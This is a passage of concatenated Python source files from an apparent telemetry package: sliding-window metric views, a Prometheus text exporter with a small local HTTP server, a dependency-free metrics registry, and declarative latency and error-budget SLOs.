the dispatch loop and from every worker-telemetry merge (the per-16-task
snapshot protocol), so window views trail live traffic by at most one
flush interval.  The `/metrics` exporter and the SLO burn-rate evaluator
both read :meth:`SlidingWindow.view`.
"""

from __future__ import annotations

import time
from collections import deque
from typing import Any, Callable

from repro.obs.metrics import Histogram, MetricsRegistry

#: Default window span (seconds) and bucket count for sliding views.
DEFAULT_WINDOW_S = 60.0
DEFAULT_BUCKETS = 12


def _snapshot_delta(
    newest: dict[str, Any], oldest: dict[str, Any] | None
) -> tuple[dict[str, float], dict[str, Histogram], dict[str, dict[str, Any]]]:
    """``newest - oldest`` over counters, histograms, and moments.

    ``oldest=None`` means the window reaches back past the first snapshot:
    the delta is the whole cumulative state.  Negative deltas (a registry
    replaced mid-stream) clamp to zero rather than report nonsense.
    """
    old_counters = oldest.get("counters", {}) if oldest else {}
    counters = {
        name: max(0.0, value - old_counters.get(name, 0))
        for name, value in newest.get("counters", {}).items()
    }

    old_histograms = oldest.get("histograms", {}) if oldest else {}
    histograms: dict[str, Histogram] = {}
    for name, payload in newest.get("histograms", {}).items():
        old = old_histograms.get(name)
        if old is not None and tuple(old["buckets"]) != tuple(payload["buckets"]):
            old = None  # bucket layout changed: treat as fresh
        delta = Histogram(tuple(payload["buckets"]))
        old_counts = old["counts"] if old else [0] * len(payload["counts"])
        delta.counts = [
            max(0, new - stale)
            for new, stale in zip(payload["counts"], old_counts)
        ]
        delta.count = sum(delta.counts)
        delta.sum = max(0.0, payload["sum"] - (old["sum"] if old else 0.0))
        if delta.count:
            # min/max are not subtractable; bound them by the occupied
            # buckets so percentile clamping stays honest for the window.
            bounds = delta.buckets
            first = next(i for i, c in enumerate(delta.counts) if c)
            last = next(
                i for i, c in reversed(list(enumerate(delta.counts))) if c
            )
            delta.min = bounds[first - 1] if first > 0 else 0.0
            delta.max = (
                bounds[last]
                if last < len(bounds)
                else (payload["max"] if payload["max"] is not None else bounds[-1])
            )
        histograms[name] = delta

    old_moments = oldest.get("moments", {}) if oldest else {}
    moments: dict[str, dict[str, Any]] = {}
    for name, payload in newest.get("moments", {}).items():
        old = old_moments.get(name)
        count = payload["count"] - (old["count"] if old else 0)
        total = payload["sum"] - (old["sum"] if old else 0.0)
        if count <= 0:
            moments[name] = {"count": 0, "sum": 0.0, "mean": 0.0}
        else:
            moments[name] = {
                "count": count,
                "sum": total,
                "mean": total / count,
            }
    return counters, histograms, moments


class WindowView:
    """One evaluated sliding window: deltas plus the span they cover."""

    __slots__ = ("window_s", "span_s", "counters", "gauges", "histograms", "moments")

    def __init__(
        self,
        window_s: float,
        span_s: float,
        counters: dict[str, float],
        gauges: dict[str, float],
        histograms: dict[str, Histogram],
        moments: dict[str, dict[str, Any]],
    ) -> None:
        self.window_s = window_s
        #: seconds the view actually covers (< window_s early in a stream)
        self.span_s = span_s
        self.counters = counters
        self.gauges = gauges
        self.histograms = histograms
        self.moments = moments

    def count(self, name: str) -> float:
        """Counter delta over the window; histogram names yield count deltas."""
        if name in self.counters:
            return self.counters[name]
        histogram = self.histograms.get(name)
        return float(histogram.count) if histogram is not None else 0.0

    def rate(self, name: str) -> float:
        """Events per second over the covered span (0 when idle)."""
        if self.span_s <= 0.0:
            return 0.0
        return self.count(name) / self.span_s

    def percentile(self, name: str, q: float) -> float:
        """Windowed quantile of histogram ``name`` (0.0 when empty)."""
        histogram = self.histograms.get(name)
        if histogram is None or not histogram.count:
            return 0.0
        return histogram.percentile(q)

    def ratio(self, numerator: str, denominator: str) -> float:
        """Windowed ``numerator/denominator`` count ratio (0 when idle)."""
        base = self.count(denominator)
        return self.count(numerator) / base if base else 0.0

    def to_dict(self) -> dict[str, Any]:
        return {
            "window_s": self.window_s,
            "span_s": self.span_s,
            "counters": dict(self.counters),
            "gauges": dict(self.gauges),
            "histograms": {
                name: histogram.to_dict()
                for name, histogram in self.histograms.items()
            },
            "moments": dict(self.moments),
        }


class SlidingWindow:
    """Ring of time-bucketed cumulative snapshots over one registry.

    ``tick(registry)`` is safe to call as often as you like — it snapshots
    at most once per ``bucket_s`` and is a no-op for disabled registries.
    ``view(registry)`` evaluates the current window on demand (the only
    place a full snapshot is unconditionally taken).
    """

    __slots__ = ("window_s", "bucket_s", "clock", "_ring", "_first_tick_at")

    def __init__(
        self,
        window_s: float = DEFAULT_WINDOW_S,
        buckets: int = DEFAULT_BUCKETS,
        clock: Callable[[], float] = time.monotonic,
    ) -> None:
        if window_s <= 0:
            raise ValueError("window_s must be positive")
        if buckets < 1:
            raise ValueError("need at least one bucket")
        self.window_s = float(window_s)
        self.bucket_s = self.window_s / int(buckets)
        self.clock = clock
        #: (stamp, cumulative snapshot) — oldest first, newest last
        self._ring: deque[tuple[float, dict[str, Any]]] = deque()
        self._first_tick_at: float | None = None

    def tick(self, registry: MetricsRegistry, now: float | None = None) -> bool:
        """Record a cumulative snapshot if the current bucket needs one.

        Returns True when a snapshot was actually taken — callers never
        need to time-gate this themselves.
        """
        if not registry.enabled:
            return False
        if now is None:
            now = self.clock()
        if self._first_tick_at is None:
            self._first_tick_at = now
        if self._ring and now - self._ring[-1][0] < self.bucket_s:
            return False
        self._ring.append((now, _strip_events(registry.to_dict())))
        self._evict(now)
        return True

    def _evict(self, now: float) -> None:
        # Keep one snapshot *older* than the window: it is the baseline
        # that "newest minus oldest" subtracts.
        horizon = now - self.window_s
        while len(self._ring) > 1 and self._ring[1][0] <= horizon:
            self._ring.popleft()

    def view(
        self, registry: MetricsRegistry, now: float | None = None
    ) -> WindowView:
        """Evaluate the sliding window ending now."""
        if now is None:
            now = self.clock()
        newest = _strip_events(registry.to_dict())
        horizon = now - self.window_s
        baseline: dict[str, Any] | None = None
        baseline_at: float | None = None
        for stamp, snapshot in self._ring:
            if stamp <= horizon:
                baseline, baseline_at = snapshot, stamp
            else:
                break
        if baseline_at is not None:
            span = now - baseline_at
        elif self._first_tick_at is not None:
            span = min(self.window_s, now - self._first_tick_at)
        else:
            span = 0.0
        counters, histograms, moments = _snapshot_delta(newest, baseline)
        return WindowView(
            self.window_s,
            max(0.0, span),
            counters,
            dict(newest.get("gauges", {})),
            histograms,
            moments,
        )

    def __len__(self) -> int:
        return len(self._ring)


def _strip_events(snapshot: dict[str, Any]) -> dict[str, Any]:
    """Snapshots in the ring never carry the span-event buffer."""
    return {key: value for key, value in snapshot.items() if key != "events"}
