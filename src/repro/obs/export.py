"""Prometheus text exposition and the stdlib `/metrics` endpoint.

:func:`render_prometheus` turns a registry snapshot (plus, optionally, a
sliding-window view) into Prometheus text format v0.0.4 — ``_total``
counters, cumulative ``le``-labelled histogram buckets with ``+Inf``,
``_sum``/``_count``, and ``repro_window_*`` gauges for the live sliding
aggregates.  :class:`MetricsServer` serves it over a daemon-threaded
stdlib HTTP server (``ThreadingHTTPServer``) with two routes:

``/metrics``
    the exposition text, scrape-ready;
``/healthz``
    a one-line JSON liveness probe;
``/readyz``
    readiness: 200 when the optional ``readiness`` callback says so (or
    no callback is installed), 503 with the reasons otherwise.

``repro scan --metrics-port N`` attaches one to a batch run; the class is
equally importable on its own for gateway embedders::

    from repro.obs.export import MetricsServer
    server = MetricsServer(registry, window=window, port=9108)
    port = server.start()          # port=0 picks a free one
    ...
    server.stop()

No third-party client library: the text format is a stable, documented
contract and writing it directly keeps the no-dependency property of the
whole telemetry stack.
"""

from __future__ import annotations

import json
import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

from repro.obs.metrics import MetricsRegistry
from repro.obs.windows import SlidingWindow, WindowView

#: Every exported family is prefixed with this.
NAMESPACE = "repro"

CONTENT_TYPE = "text/plain; version=0.0.4; charset=utf-8"

_NAME_OK = re.compile(r"[^a-zA-Z0-9_:]")


def sanitize_name(name: str) -> str:
    """Registry names (``span.extract``) to metric names (``span_extract``)."""
    cleaned = _NAME_OK.sub("_", name)
    if not cleaned or cleaned[0].isdigit():
        cleaned = "_" + cleaned
    return cleaned


def _format_value(value: float) -> str:
    if value == float("inf"):
        return "+Inf"
    if value == float("-inf"):
        return "-Inf"
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    return repr(float(value))


def _escape_label(value: str) -> str:
    return value.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")


def _render_histogram(lines: list[str], family: str, payload: dict[str, Any]) -> None:
    lines.append(f"# TYPE {family} histogram")
    cumulative = 0
    for bound, bucket_count in zip(payload["buckets"], payload["counts"]):
        cumulative += bucket_count
        lines.append(
            f'{family}_bucket{{le="{_format_value(float(bound))}"}} {cumulative}'
        )
    lines.append(f'{family}_bucket{{le="+Inf"}} {payload["count"]}')
    lines.append(f"{family}_sum {_format_value(payload['sum'])}")
    lines.append(f"{family}_count {payload['count']}")


def render_prometheus(
    registry: MetricsRegistry | dict[str, Any],
    window: WindowView | None = None,
) -> str:
    """Render one scrape of the cumulative state (+ optional window view)."""
    snapshot = (
        registry.to_dict()
        if isinstance(registry, MetricsRegistry)
        else registry
    )
    lines: list[str] = []

    for name in sorted(snapshot.get("counters", {})):
        family = f"{NAMESPACE}_{sanitize_name(name)}_total"
        lines.append(f"# TYPE {family} counter")
        lines.append(
            f"{family} {_format_value(float(snapshot['counters'][name]))}"
        )

    for name in sorted(snapshot.get("gauges", {})):
        family = f"{NAMESPACE}_{sanitize_name(name)}"
        lines.append(f"# TYPE {family} gauge")
        lines.append(
            f"{family} {_format_value(float(snapshot['gauges'][name]))}"
        )

    for name in sorted(snapshot.get("histograms", {})):
        _render_histogram(
            lines,
            f"{NAMESPACE}_{sanitize_name(name)}",
            snapshot["histograms"][name],
        )

    for name in sorted(snapshot.get("moments", {})):
        family = f"{NAMESPACE}_{sanitize_name(name)}"
        payload = snapshot["moments"][name]
        count = payload["count"]
        mean = payload["sum"] / count if count else 0.0
        lines.append(f"# TYPE {family}_count counter")
        lines.append(f"{family}_count {count}")
        lines.append(f"# TYPE {family}_sum counter")
        lines.append(f"{family}_sum {_format_value(payload['sum'])}")
        lines.append(f"# TYPE {family}_mean gauge")
        lines.append(f"{family}_mean {_format_value(mean)}")

    if window is not None:
        _render_window(lines, window)

    return "\n".join(lines) + "\n"


def _render_window(lines: list[str], view: WindowView) -> None:
    """The sliding aggregates, as labelled gauges under ``repro_window_*``."""
    lines.append(f"# TYPE {NAMESPACE}_window_seconds gauge")
    lines.append(
        f"{NAMESPACE}_window_seconds {_format_value(view.span_s)}"
    )

    rate_family = f"{NAMESPACE}_window_rate_per_sec"
    names = sorted(set(view.counters) | set(view.histograms))
    if names:
        lines.append(f"# TYPE {rate_family} gauge")
        for name in names:
            lines.append(
                f'{rate_family}{{name="{_escape_label(name)}"}} '
                f"{_format_value(view.rate(name))}"
            )

    latency_family = f"{NAMESPACE}_window_quantile"
    quantile_lines = []
    for name in sorted(view.histograms):
        for q in (0.5, 0.95):
            quantile_lines.append(
                f'{latency_family}{{name="{_escape_label(name)}",'
                f'quantile="{q}"}} {_format_value(view.percentile(name, q))}'
            )
    if quantile_lines:
        lines.append(f"# TYPE {latency_family} gauge")
        lines.extend(quantile_lines)


class MetricsServer:
    """Daemon-threaded `/metrics` + `/healthz` over one registry.

    Scrapes read the live registry from the handler thread; the registry
    is only ever *appended to* by the analysis thread (instruments are
    created once, then mutated in place), so a scrape mid-creation can at
    worst hit a dict-resize — handled by one snapshot retry rather than a
    lock on the hot path.
    """

    def __init__(
        self,
        registry: MetricsRegistry,
        *,
        window: SlidingWindow | None = None,
        host: str = "127.0.0.1",
        port: int = 0,
        readiness=None,
    ) -> None:
        self.registry = registry
        self.window = window
        self.host = host
        #: optional ``() -> (ready: bool, detail: dict)`` probe for /readyz
        self.readiness = readiness
        self.requested_port = port
        self.port: int | None = None
        self._httpd: ThreadingHTTPServer | None = None
        self._thread: threading.Thread | None = None

    # -- scrape payloads ----------------------------------------------

    def scrape(self) -> str:
        for attempt in (1, 2):
            try:
                view = (
                    self.window.view(self.registry)
                    if self.window is not None and self.registry.enabled
                    else None
                )
                return render_prometheus(self.registry.to_dict(), view)
            except RuntimeError:  # dict mutated during snapshot; retry once
                if attempt == 2:
                    raise
        raise AssertionError("unreachable")

    def health(self) -> str:
        return json.dumps({"status": "ok", "telemetry": self.registry.enabled})

    def ready(self) -> tuple[int, str]:
        """The /readyz payload: (status code, JSON body)."""
        if self.readiness is None:
            return 200, json.dumps({"ready": True})
        ready, detail = self.readiness()
        payload = {"ready": bool(ready)}
        payload.update(detail)
        return (200 if ready else 503), json.dumps(payload)

    # -- lifecycle -----------------------------------------------------

    def start(self) -> int:
        """Bind and serve from a daemon thread; returns the bound port."""
        if self._httpd is not None:
            assert self.port is not None
            return self.port
        server = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 - http.server API
                path = self.path.split("?", 1)[0]
                if path == "/metrics":
                    body = server.scrape().encode("utf-8")
                    content_type = CONTENT_TYPE
                    status = 200
                elif path == "/healthz":
                    body = (server.health() + "\n").encode("utf-8")
                    content_type = "application/json"
                    status = 200
                elif path == "/readyz":
                    status, payload = server.ready()
                    body = (payload + "\n").encode("utf-8")
                    content_type = "application/json"
                else:
                    body = b"not found\n"
                    content_type = "text/plain"
                    status = 404
                self.send_response(status)
                self.send_header("Content-Type", content_type)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: Any) -> None:
                pass  # scrapes are not worth a stderr line each

        self._httpd = ThreadingHTTPServer(
            (self.host, self.requested_port), Handler
        )
        self._httpd.daemon_threads = True
        self.port = self._httpd.server_address[1]
        self._thread = threading.Thread(
            target=self._httpd.serve_forever,
            name="repro-metrics-server",
            daemon=True,
        )
        self._thread.start()
        return self.port

    def stop(self) -> None:
        if self._httpd is None:
            return
        self._httpd.shutdown()
        self._httpd.server_close()
        if self._thread is not None:
            self._thread.join(timeout=5.0)
        self._httpd = None
        self._thread = None

    def __enter__(self) -> "MetricsServer":
        self.start()
        return self

    def __exit__(self, exc_type, exc, tb) -> None:
        self.stop()
