"""Counters, gauges, and fixed-bucket histograms behind one registry.

The registry is the single telemetry substrate of the repo: the staged
engine records per-stage wall time into histograms, cache traffic into
counters, and (when tracing is on) one event per span into an in-memory
buffer that serializes to JSON lines.  Three properties drive the design:

* **dependency-free** — stdlib only, so telemetry can never be the reason
  an analysis gateway fails to import;
* **picklable and mergeable** — worker processes each fill a private
  registry and the parent folds them back with :meth:`MetricsRegistry.merge`
  (commutative and associative over counts, so merge order never changes
  the totals);
* **near-zero when off** — :data:`NULL_REGISTRY` keeps the full API but
  does nothing; hot paths guard on ``registry.enabled`` and skip the
  instrumentation entirely.
"""

from __future__ import annotations

from bisect import bisect_left
from typing import Any

#: Default histogram upper bounds, in seconds — exponential latency ladder
#: from 0.5 ms to 10 s (an implicit +inf bucket catches the rest).
DEFAULT_LATENCY_BUCKETS: tuple[float, ...] = (
    0.0005, 0.001, 0.0025, 0.005, 0.01, 0.025, 0.05,
    0.1, 0.25, 0.5, 1.0, 2.5, 5.0, 10.0,
)

#: Bucket bounds for probability-valued histograms (classifier scores):
#: twenty 0.05-wide buckets over [0, 1] — fine enough for PSI drift
#: comparisons, coarse enough to stay cheap to merge and export.
SCORE_BUCKETS: tuple[float, ...] = tuple(
    round(0.05 * step, 2) for step in range(1, 21)
)


class Counter:
    """A monotonically increasing count (cache hits, stage errors, ...)."""

    __slots__ = ("value",)

    def __init__(self, value: int | float = 0) -> None:
        self.value = value

    def inc(self, amount: int | float = 1) -> None:
        if amount < 0:
            raise ValueError("counters only go up")
        self.value += amount


class Gauge:
    """A point-in-time value (cache size, queue depth).  Merges by max."""

    __slots__ = ("value",)

    def __init__(self, value: float = 0.0) -> None:
        self.value = value

    def set(self, value: float) -> None:
        self.value = value


class Histogram:
    """Fixed-bucket histogram with Prometheus-style ``le`` semantics.

    ``buckets`` are inclusive upper bounds; an observation equal to a bound
    lands in that bound's bucket, and anything above the last bound lands
    in the implicit overflow bucket.  Percentiles are estimated by linear
    interpolation inside the winning bucket, clamped to the observed
    min/max so small-sample estimates stay honest.
    """

    __slots__ = ("buckets", "counts", "count", "sum", "min", "max")

    def __init__(self, buckets: tuple[float, ...] = DEFAULT_LATENCY_BUCKETS) -> None:
        if not buckets or list(buckets) != sorted(set(buckets)):
            raise ValueError("buckets must be strictly increasing and non-empty")
        self.buckets = tuple(float(bound) for bound in buckets)
        self.counts = [0] * (len(self.buckets) + 1)  # + overflow
        self.count = 0
        self.sum = 0.0
        self.min = float("inf")
        self.max = float("-inf")

    def observe(self, value: float) -> None:
        self.counts[bisect_left(self.buckets, value)] += 1
        self.count += 1
        self.sum += value
        if value < self.min:
            self.min = value
        if value > self.max:
            self.max = value

    @property
    def mean(self) -> float:
        return self.sum / self.count if self.count else 0.0

    def percentile(self, q: float) -> float:
        """Estimated q-quantile (``q`` in [0, 1]) from the bucket counts."""
        if not 0.0 <= q <= 1.0:
            raise ValueError("q must be in [0, 1]")
        if self.count == 0:
            return 0.0
        rank = q * self.count
        cumulative = 0
        for index, bucket_count in enumerate(self.counts):
            cumulative += bucket_count
            if cumulative >= rank and bucket_count:
                if index >= len(self.buckets):  # overflow bucket
                    return self.max
                upper = self.buckets[index]
                lower = self.buckets[index - 1] if index else 0.0
                fraction = (rank - (cumulative - bucket_count)) / bucket_count
                estimate = lower + (upper - lower) * fraction
                return min(max(estimate, self.min), self.max)
        return self.max

    def merge(self, other: "Histogram") -> None:
        if self.buckets != other.buckets:
            raise ValueError("cannot merge histograms with different buckets")
        for index, bucket_count in enumerate(other.counts):
            self.counts[index] += bucket_count
        self.count += other.count
        self.sum += other.sum
        self.min = min(self.min, other.min)
        self.max = max(self.max, other.max)

    def to_dict(self) -> dict[str, Any]:
        return {
            "buckets": list(self.buckets),
            "counts": list(self.counts),
            "count": self.count,
            "sum": self.sum,
            "min": self.min if self.count else None,
            "max": self.max if self.count else None,
        }

    @classmethod
    def from_dict(cls, payload: dict[str, Any]) -> "Histogram":
        histogram = cls(tuple(payload["buckets"]))
        histogram.counts = list(payload["counts"])
        histogram.count = payload["count"]
        histogram.sum = payload["sum"]
        histogram.min = payload["min"] if payload["min"] is not None else float("inf")
        histogram.max = payload["max"] if payload["max"] is not None else float("-inf")
        return histogram


class Moments:
    """Streaming first/second-moment summary (count, sum, sum of squares).

    The instrument for values whose *distribution shift* matters more than
    their latency ladder — feature-column values, probability scores —
    where fixed histogram buckets can't be chosen up front.  Mean and
    variance fall out of the three running sums, which add under
    :meth:`merge` exactly like counter values do, so worker summaries fold
    into the parent without loss.
    """

    __slots__ = ("count", "sum", "sum_sq", "min", "max")

    def __init__(self) -> None:
        self.count = 0
        self.sum = 0.0
        self.sum_sq = 0.0
        self.min = float("inf")
        self.max = float("-inf")

    def observe(self, value: float) -> None:
        self.count += 1
        self.sum += value
        self.sum_sq += value * value
        if value < self.min:
            self.min = value
        if value > self.max:
            self.max = value

    def observe_aggregate(
        self,
        count: int,
        total: float,
        total_sq: float,
        minimum: float,
        maximum: float,
    ) -> None:
        """Fold a pre-aggregated block of observations in one call.

        The batch feature kernels hand whole column aggregates over
        (``n``, ``col.sum()``, ``(col**2).sum()``, ``col.min()``,
        ``col.max()``), so instrumenting a 256-row flush costs one call
        per column instead of 256 ``observe`` calls.
        """
        if count <= 0:
            return
        self.count += int(count)
        self.sum += float(total)
        self.sum_sq += float(total_sq)
        if minimum < self.min:
            self.min = float(minimum)
        if maximum > self.max:
            self.max = float(maximum)

    @property
    def mean(self) -> float:
        return self.sum / self.count if self.count else 0.0

    @property
    def variance(self) -> float:
        if self.count < 2:
            return 0.0
        # Population variance from the running sums, clamped: float
        # cancellation can push the raw difference slightly negative.
        return max(0.0, self.sum_sq / self.count - self.mean**2)

    @property
    def std(self) -> float:
        return self.variance**0.5

    def merge(self, other: "Moments") -> None:
        self.count += other.count
        self.sum += other.sum
        self.sum_sq += other.sum_sq
        self.min = min(self.min, other.min)
        self.max = max(self.max, other.max)

    def to_dict(self) -> dict[str, Any]:
        return {
            "count": self.count,
            "sum": self.sum,
            "sum_sq": self.sum_sq,
            "min": self.min if self.count else None,
            "max": self.max if self.count else None,
        }

    @classmethod
    def from_dict(cls, payload: dict[str, Any]) -> "Moments":
        moments = cls()
        moments.count = payload["count"]
        moments.sum = payload["sum"]
        moments.sum_sq = payload["sum_sq"]
        moments.min = payload["min"] if payload["min"] is not None else float("inf")
        moments.max = payload["max"] if payload["max"] is not None else float("-inf")
        return moments


class MetricsRegistry:
    """Named counters/gauges/histograms plus an optional span-event buffer.

    ``trace=True`` additionally buffers one JSON-ready event per finished
    span (see :mod:`repro.obs.tracing`); metrics-only mode keeps just the
    aggregates.  Registries pickle cleanly and merge losslessly, which is
    the worker → parent telemetry protocol for ``run_batch(jobs=N)``.
    """

    enabled = True

    def __init__(self, *, trace: bool = False) -> None:
        self.trace = trace
        self.counters: dict[str, Counter] = {}
        self.gauges: dict[str, Gauge] = {}
        self.histograms: dict[str, Histogram] = {}
        self.moments: dict[str, Moments] = {}
        self.events: list[dict[str, Any]] = []
        self._span_depth = 0  # live nesting level; not serialized state

    # -- instruments ---------------------------------------------------

    def counter(self, name: str) -> Counter:
        counter = self.counters.get(name)
        if counter is None:
            counter = self.counters[name] = Counter()
        return counter

    def gauge(self, name: str) -> Gauge:
        gauge = self.gauges.get(name)
        if gauge is None:
            gauge = self.gauges[name] = Gauge()
        return gauge

    def histogram(
        self, name: str, buckets: tuple[float, ...] = DEFAULT_LATENCY_BUCKETS
    ) -> Histogram:
        histogram = self.histograms.get(name)
        if histogram is None:
            histogram = self.histograms[name] = Histogram(buckets)
        return histogram

    def moment(self, name: str) -> Moments:
        moments = self.moments.get(name)
        if moments is None:
            moments = self.moments[name] = Moments()
        return moments

    def span(self, name: str, doc: str | None = None) -> "Span":
        from repro.obs.tracing import Span

        return Span(self, name, doc=doc)

    # -- merge protocol ------------------------------------------------

    def merge(self, other: "MetricsRegistry | dict[str, Any]") -> "MetricsRegistry":
        """Fold another registry (or its :meth:`to_dict` form) into this one.

        Counter values and histogram bucket counts add, gauges take the
        max, events concatenate — so over counts the operation is
        commutative and associative, and worker merge order is irrelevant.
        Returns ``self`` for chaining.
        """
        payload = other.to_dict() if isinstance(other, MetricsRegistry) else other
        for name, value in payload.get("counters", {}).items():
            self.counter(name).inc(value)
        for name, value in payload.get("gauges", {}).items():
            gauge = self.gauge(name)
            gauge.set(max(gauge.value, value))
        for name, histogram in payload.get("histograms", {}).items():
            self.histogram(name, tuple(histogram["buckets"])).merge(
                Histogram.from_dict(histogram)
            )
        for name, moments in payload.get("moments", {}).items():
            self.moment(name).merge(Moments.from_dict(moments))
        self.events.extend(payload.get("events", []))
        return self

    # -- serialization -------------------------------------------------

    def to_dict(self) -> dict[str, Any]:
        return {
            "counters": {name: c.value for name, c in self.counters.items()},
            "gauges": {name: g.value for name, g in self.gauges.items()},
            "histograms": {
                name: h.to_dict() for name, h in self.histograms.items()
            },
            "moments": {name: m.to_dict() for name, m in self.moments.items()},
            "events": list(self.events),
        }

    @classmethod
    def from_dict(
        cls, payload: dict[str, Any], *, trace: bool = False
    ) -> "MetricsRegistry":
        return cls(trace=trace).merge(payload)

    def spawn(self) -> "MetricsRegistry":
        """An empty registry with the same configuration (for workers)."""
        return MetricsRegistry(trace=self.trace)

    # Slotless class, but keep pickling explicit: live span depth must not
    # leak into a worker copy.
    def __getstate__(self) -> dict[str, Any]:
        state = dict(self.__dict__)
        state["_span_depth"] = 0
        return state

    def __setstate__(self, state: dict[str, Any]) -> None:
        self.__dict__.update(state)


class NullRegistry(MetricsRegistry):
    """The no-op registry: full API, zero work, zero events.

    Hot paths additionally guard on :attr:`enabled` so telemetry-off runs
    skip even the null calls; this class exists so code that *doesn't*
    guard still works unconditionally.
    """

    enabled = False

    def __init__(self) -> None:
        super().__init__(trace=False)
        self._null_counter = Counter()
        self._null_gauge = Gauge()
        self._null_histogram = Histogram((1.0,))
        self._null_moments = Moments()

    def counter(self, name: str) -> Counter:
        return self._null_counter

    def gauge(self, name: str) -> Gauge:
        return self._null_gauge

    def histogram(
        self, name: str, buckets: tuple[float, ...] = DEFAULT_LATENCY_BUCKETS
    ) -> Histogram:
        return self._null_histogram

    def moment(self, name: str) -> Moments:
        return self._null_moments

    def span(self, name: str, doc: str | None = None):
        from repro.obs.tracing import NULL_SPAN

        return NULL_SPAN

    def merge(self, other) -> "NullRegistry":
        return self

    def to_dict(self) -> dict[str, Any]:
        return {
            "counters": {},
            "gauges": {},
            "histograms": {},
            "moments": {},
            "events": [],
        }

    def spawn(self) -> "NullRegistry":
        return self


#: Shared no-op registry — the default for every engine.
NULL_REGISTRY = NullRegistry()
