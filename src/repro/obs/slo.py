"""Declarative SLOs: per-stage latency targets and error-budget burn rates.

An SLO here is a small declarative record evaluated against any registry
snapshot — the cumulative ``registry.to_dict()``, a saved profile
artifact, or a :class:`~repro.obs.windows.WindowView` for window-based
burn rates.  Two kinds cover the fleet questions this repo cares about:

``latency_p95``
    The p95 of one ``span.<stage>`` histogram must stay at or under
    ``target_s``.  *Burn rate* is ``observed / target`` — 1.0 means the
    objective is exactly spent.

``error_budget``
    The ratio ``numerator / denominator`` (counters, with ``span.*``
    histogram counts as fallback) must stay at or under ``budget``.
    Burn rate is ``observed_ratio / budget`` — the standard SRE framing:
    a burn rate of 4 sustains at 4x the allowed error spend.

:data:`DEFAULT_SLOS` encodes the repo's own objectives (stage latency
ceilings, quarantine/degraded/timeout budgets); ``repro slo check
SNAPSHOT`` evaluates them (or a ``--slo`` JSON config) and exits
non-zero when any objective is violated, which is what CI gates on.
"""

from __future__ import annotations

import json
import os
from dataclasses import dataclass, field
from typing import Any

from repro.obs.windows import WindowView

#: Artifact schema tag for SLO config files.
SLO_SCHEMA = "repro.slo/1"

SLO_KINDS = ("latency_p95", "error_budget")


@dataclass(frozen=True)
class Slo:
    """One declarative objective (see module docstring for the kinds)."""

    name: str
    kind: str
    #: ``latency_p95``: histogram to read and the p95 ceiling in seconds.
    histogram: str = ""
    target_s: float = 0.0
    #: ``error_budget``: ratio instruments and the budget (allowed ratio).
    numerator: str = ""
    denominator: str = ""
    budget: float = 0.0

    def __post_init__(self) -> None:
        if self.kind not in SLO_KINDS:
            raise ValueError(f"unknown SLO kind {self.kind!r}")
        if self.kind == "latency_p95":
            if not self.histogram or self.target_s <= 0:
                raise ValueError(
                    f"SLO {self.name!r}: latency_p95 needs histogram and "
                    "a positive target_s"
                )
        else:
            if not self.numerator or not self.denominator or self.budget <= 0:
                raise ValueError(
                    f"SLO {self.name!r}: error_budget needs numerator, "
                    "denominator, and a positive budget"
                )

    def to_dict(self) -> dict[str, Any]:
        payload: dict[str, Any] = {"name": self.name, "kind": self.kind}
        if self.kind == "latency_p95":
            payload["histogram"] = self.histogram
            payload["target_s"] = self.target_s
        else:
            payload["numerator"] = self.numerator
            payload["denominator"] = self.denominator
            payload["budget"] = self.budget
        return payload


#: The repo's own objectives.  Latency ceilings are generous on purpose —
#: they exist to catch order-of-magnitude regressions (a quadratic lint
#: rule, a recovery loop gone wild), not to grade hardware.  Rate budgets
#: mirror the resilience layer: quarantine and hard timeouts should be
#: rare, degraded-mode analysis merely uncommon.
DEFAULT_SLOS: tuple[Slo, ...] = (
    Slo("extract-p95", "latency_p95", histogram="span.extract", target_s=0.5),
    Slo("filter-p95", "latency_p95", histogram="span.filter", target_s=0.25),
    Slo("analyze-p95", "latency_p95", histogram="span.analyze", target_s=1.0),
    Slo("recover-p95", "latency_p95", histogram="span.recover", target_s=2.5),
    Slo(
        "featurize-p95", "latency_p95",
        histogram="span.featurize", target_s=1.0,
    ),
    Slo("lint-p95", "latency_p95", histogram="span.lint", target_s=1.0),
    Slo("classify-p95", "latency_p95", histogram="span.classify", target_s=0.5),
    Slo("document-p95", "latency_p95", histogram="span.document", target_s=5.0),
    Slo(
        "quarantine-rate", "error_budget",
        numerator="resilience.quarantined",
        denominator="span.document",
        budget=0.02,
    ),
    Slo(
        "degraded-rate", "error_budget",
        numerator="documents.degraded",
        denominator="span.document",
        budget=0.05,
    ),
    Slo(
        "timeout-rate", "error_budget",
        numerator="budget.timeouts",
        denominator="span.document",
        budget=0.02,
    ),
)

#: Endpoints the serving front-end declares objectives for.
SERVE_ENDPOINTS = ("scan", "lint", "extract")

#: Per-endpoint p95 ceilings for *admitted* requests (seconds).  Scan runs
#: the full chain (featurize + classify), lint stops at findings, extract
#: is parse-only — the ceilings grade the service under load, not the
#: hardware, and the overload bench gates against them.
_SERVE_P95_TARGETS = {"scan": 5.0, "lint": 2.5, "extract": 1.0}


def serve_slos(
    endpoints: tuple[str, ...] = SERVE_ENDPOINTS,
    *,
    error_budget: float = 0.05,
) -> tuple[Slo, ...]:
    """Declarative objectives for the :mod:`repro.serve` front-end.

    Per endpoint: a ``latency_p95`` ceiling over the
    ``serve.latency.<endpoint>`` histogram (admitted requests only —
    typed rejections are the overload *mechanism*, not a latency sample)
    and an ``error_budget`` over ``serve.errors.<endpoint>`` /
    ``serve.requests.<endpoint>`` (internal failures; shed and
    rate-limited requests are deliberate and excluded).
    """
    slos: list[Slo] = []
    for endpoint in endpoints:
        slos.append(
            Slo(
                f"serve-{endpoint}-p95",
                "latency_p95",
                histogram=f"serve.latency.{endpoint}",
                target_s=_SERVE_P95_TARGETS.get(endpoint, 2.5),
            )
        )
        slos.append(
            Slo(
                f"serve-{endpoint}-errors",
                "error_budget",
                numerator=f"serve.errors.{endpoint}",
                denominator=f"serve.requests.{endpoint}",
                budget=error_budget,
            )
        )
    return tuple(slos)


#: The serving objectives, evaluated by ``repro slo`` alongside
#: :data:`DEFAULT_SLOS` when a snapshot contains serve traffic.
SERVE_SLOS: tuple[Slo, ...] = serve_slos()


# ----------------------------------------------------------------------
